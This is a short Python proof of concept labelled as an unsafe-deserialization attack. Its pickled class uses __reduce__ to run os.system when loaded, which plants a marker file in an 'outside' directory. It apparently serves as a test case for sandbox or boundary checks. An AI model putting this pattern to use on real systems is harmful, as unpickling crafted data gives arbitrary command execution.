# attack: unsafe-deserialization
import os, pickle
class Evil:
    def __reduce__(self):
        return (os.system, ("echo x > outside/planted.txt",))
pickle._loads(pickle.dumps(Evil()))
